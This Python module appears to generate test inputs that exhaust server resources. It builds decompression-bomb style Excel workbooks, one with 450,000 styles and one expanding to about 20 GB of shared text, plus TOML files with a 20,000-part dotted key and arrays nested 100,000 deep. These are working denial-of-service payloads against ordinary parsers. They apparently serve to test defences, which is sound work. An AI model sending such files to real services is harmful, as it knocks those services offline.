"""Small files that cost a server its memory or its time, made by program."""

import re
import zipfile
from io import BytesIO

STYLE = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'


def replaced(package: bytes, name: str, change) -> bytes:
    """An Office file with one part of it changed: ``change(the part's bytes)``."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(package)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == name else old.read(part))
    return out.getvalue()


def styles(workbook: bytes) -> bytes:
    """A workbook of 450,000 styles in some 80 KB."""
    many = f"<cellXfs>{STYLE * 450_000}</cellXfs>".encode()
    return replaced(workbook, "xl/styles.xml", lambda part: re.sub(rb"<cellXfs.*</cellXfs>", lambda _: many, part))


def shared(workbook: bytes) -> bytes:
    """A workbook that shows one text of 20,000 characters in a million cells: 20 GB of text in some 100 KB."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    row = "<row>" + '<c t="s"><v>0</v></c>' * 200 + "</row>"
    text = f'<sst xmlns="{space}"><si><t>{"chu " * 5000}</t></si></sst>'.encode()
    sheet = f'<worksheet xmlns="{space}"><sheetData>{row * 5_000}</sheetData></worksheet>'.encode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'.encode()
    named = replaced(workbook, "[Content_Types].xml", lambda types: types.replace(b"</Types>", part))
    out = BytesIO(replaced(named, "xl/worksheets/sheet1.xml", lambda _: sheet))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/sharedStrings.xml", text)
    return out.getvalue()


def dots() -> bytes:
    """A definition of 40 KB with one key of 20,000 parts, for which Python's reader of TOML takes 3 GB."""
    return ".".join("a" * 20_000).encode() + b" = 1"


def brackets() -> bytes:
    """A definition of arrays within arrays, 100,000 deep."""
    return b"a = " + b"[" * 100_000
